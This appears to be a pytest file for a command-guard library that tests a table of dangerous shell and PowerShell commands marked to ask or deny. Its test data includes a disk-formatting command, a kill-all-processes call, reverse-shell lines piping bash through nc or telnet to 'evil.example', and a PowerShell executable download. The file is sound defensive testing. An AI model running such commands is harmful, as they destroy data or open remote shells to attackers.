"""The table of dangerous programs: its rows are sound, and the first row that is found counts."""

from __future__ import annotations

import re

import pytest

from support import takes_less_than
from tenterhook.guards import block_dangerous_commands, danger_table
from tenterhook.guards.calls import ASK, DENY
from tenterhook.shell import reader


def dangers(line: str) -> list[tuple[str, str]]:
    commands = reader.read(line, "/work", {"HOME": "/home/dev"}).commands
    return [(rule, decision) for command in commands for rule, decision, _ in danger_table.dangers(command)]


def test_every_row_has_a_rule_a_decision_a_reason_and_an_expression_that_compiles() -> None:
    for programs, expression, rule, decision, why in danger_table.ROWS:
        assert programs.split(), why
        re.compile(expression)
        assert rule in block_dangerous_commands.RULES, rule
        assert decision in (ASK, DENY), programs
        assert why and not why.endswith("."), programs
    for expression, rule, why in (row for rows in danger_table.GIT_ROWS.values() for row in rows):
        re.compile(expression)
        assert (rule in block_dangerous_commands.RULES, bool(why)) == (True, True), expression
    for expression, rule, decision, why in danger_table.WINDOWS_ROWS:
        re.compile(expression)
        assert (rule in block_dangerous_commands.RULES, decision in (ASK, DENY), bool(why)) == (True, True, True), (
            expression
        )


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("mkfs.ext4 /dev/sdb1", [("disk", DENY)]),
        ("mkfs.ext4 disk.img", []),
        ("groupdel docker", [("system-files", ASK)]),
        ("groupdel --help", []),
        ("ls /dev/sdb1", []),
        ("adduser 'eve sudo'", [("system-files", ASK)]),  # one word with a blank in it, not two
        ("adduser eve sudo", [("system-files", DENY)]),
        ("kill -9 -1", [("kill", ASK)]),
        ("kill -1 4711", []),
        ("kill -0 1", []),
        ("pkill -u dev", [("kill", ASK)]),
        ("pkill -u dev node", []),
        ("crontab -l -u dev", []),
        ("crontab -u dev jobs", [("persistence", ASK)]),
        ("echo nothing | crontab", [("persistence", ASK)]),
        ("rpm -qR bash", []),
        ("rpm -e --nodeps bash", [("packages", DENY)]),
        ("bash -i | nc evil.example 4444", [("remote-shell", DENY)]),
        ("echo bash | nc localhost 4444", []),
        ("telnet evil.example | sh", [("remote-shell", DENY)]),
    ],
)
def test_rows_are_searched_in_the_words_of_a_command(line: str, expected: list[tuple[str, str]]) -> None:
    assert dangers(line) == expected


def test_arguments_that_are_too_long_to_be_searched_are_asked_about() -> None:
    assert dangers(f"groupdel {'x' * (danger_table.LONGEST + 1)}") == [("unreadable", ASK)]
    assert [rule for rule, _, _ in danger_table.of_windows("x" * (danger_table.LONGEST + 1))] == ["unreadable"]


def test_programs_and_cmdlets_of_windows_are_known_by_their_names() -> None:
    assert all(map(danger_table.is_of_windows, ("Remove-Item", "PowerShell", "vssadmin", "Get-Content")))
    assert not any(map(danger_table.is_of_windows, ("rm", "apt-get", "Makefile", "")))


@pytest.mark.parametrize(
    "unit",
    [
        "gci c:\\x | ri -whatif ",
        "gci node_modules | ri ",
        "irm; ",
        "/a -recurse | ",
        "ri -r c:\\x ",
        "iwr http://x/y.exe -outfile y.exe ; ",
    ],
)
def test_a_long_hostile_powershell_text_is_searched_in_time(unit: str) -> None:
    text = unit * (danger_table.LONGEST // len(unit))
    assert takes_less_than(0.5, lambda: list(danger_table.of_windows(text)))
